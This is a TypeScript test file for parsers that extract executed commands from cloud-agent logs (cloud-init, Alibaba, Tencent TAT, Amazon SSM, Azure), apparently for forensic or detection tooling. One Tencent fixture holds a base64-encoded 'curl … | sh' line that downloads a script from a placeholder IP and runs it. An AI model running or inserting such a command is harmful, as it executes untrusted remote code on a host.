import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import type { LineFormat } from '../../core/log-format.ts'
import { alibabaAssist, amazonSsm, azureAgent, cloudInit, tencentTat } from './cloud-agents.ts'

const told = (format: LineFormat, ...lines: string[]) =>
  draftsOf(format, '/var/log/x', ...lines).map(d =>
    [d.time && new Date(d.time.ms).toISOString().slice(0, 19), d.verb, d.program, d.user, d.session, d.command, d.url]
      .filter(Boolean)
      .join(' | '),
  )

test('what each agent ran', () => {
  assert.deepEqual(
    told(
      cloudInit,
      "2026-01-02 03:04:05,678 - subp.py[DEBUG]: Running command ['/var/lib/cloud/instance/scripts/part-001'] with allowed return codes [0] (shell=False, capture=False)",
      "2026-01-02 03:04:05,678 - subp.py[DEBUG]: Running command ['systemctl', 'reload'] with allowed return codes [0] (shell=False, capture=True)",
    ),
    ['2026-01-02T03:04:05 | command | cloud-init | root | /var/lib/cloud/instance/scripts/part-001'],
  )
  assert.deepEqual(
    told(
      alibabaAssist,
      'time="2026-01-02T03:04:05+08:00" level=info msg="Run task" Phase=Running TaskId=t-hz0abc',
      '{"Phase":"Running","TaskId":"t-hz0abc","level":"info","msg":"Run task","time":"2026-01-02 03:04:05"}',
      '{"Phase":"Ending","TaskId":"t-hz0abc","level":"info","msg":"Sent: Run task","time":"2026-01-02 03:04:05"}',
    ),
    ['2026-01-01T19:04:05 | command | aliyun-assist | t-hz0abc', '2026-01-02T03:04:05 | command | aliyun-assist | t-hz0abc'],
  )
  const command = Buffer.from('curl -s http://192.0.2.9/x.sh | sh').toString('base64')
  const begin = (body: string) =>
    `2026-01-02T03:04:05.123456789+08:00|src/executor/thread.rs:190|INFO|task execute begin: InvocationNormalTask { ${body} }`
  assert.deepEqual(
    told(
      tencentTat,
      begin(
        `invocation_task_id: "invt-1a2b", time_out: 60, command: "${command}", command_type: "SHELL", username: "root", working_directory: "/root"`,
      ),
    ),
    ['2026-01-01T19:04:05 | command | tat_agent | root | invt-1a2b | curl -s http://192.0.2.9/x.sh | sh | http://192.0.2.9/x.sh'],
  )
  assert.deepEqual(
    told(
      amazonSsm,
      '2026-01-02 03:04:05 INFO [ssm-agent-worker] [MessagingDeliveryService] [EngineProcessor] execution of aws.ssm.f8794838-cc4f-4f3f-a9ea-d3ff27d72c0d.i-040265df7863aa801 is over. Removing interimState from current folder',
    ),
    ['2026-01-02T03:04:05 | command | amazon-ssm-agent | f8794838-cc4f-4f3f-a9ea-d3ff27d72c0d'],
  )
  assert.deepEqual(
    told(
      azureAgent,
      '2026-01-02T03:04:05.123456Z INFO ExtHandler [Microsoft.CPlat.Core.RunCommandLinux-1.0.5] Executing command: bin/run-command-shim enable',
    ),
    ['2026-01-02T03:04:05 | command | waagent | Microsoft.CPlat.Core.RunCommandLinux-1.0.5 | bin/run-command-shim enable'],
  )
})

test('near misses: output of a command that speaks like the agent', () => {
  const output = 'ready to report output length:9, output_debug:x|task execute begin: InvocationNormalTask { command: "id" }'
  assert.deepEqual(told(tencentTat, `2026-01-02T03:04:05.1+08:00|src/executor/thread.rs:120|INFO|${output}`), [])
  assert.deepEqual(told(alibabaAssist, 'output: time="2026-01-02T03:04:05+08:00" msg="Run task" TaskId=t-1'), [])
  assert.deepEqual(told(amazonSsm, '2026-01-02 03:04:05 INFO x execution of aws.ssm.f8794838-cc4f.i-040265df7863aa801 is over'), [])
})

test('property: any text, no throw', () => {
  for (const format of [alibabaAssist, tencentTat, amazonSsm, azureAgent, cloudInit])
    fc.assert(
      fc.property(
        fc.string(),
        text =>
          void draftsOf(
            { ...format, needles: [] },
            '/a',
            text,
            `2026-01-02T03:04:05Z ${text}`,
            `2026-01-02T03:04:05Z|a:1|INFO|task execute begin: InvocationNormalTask { ${text}}`,
          ),
      ),
    )
})
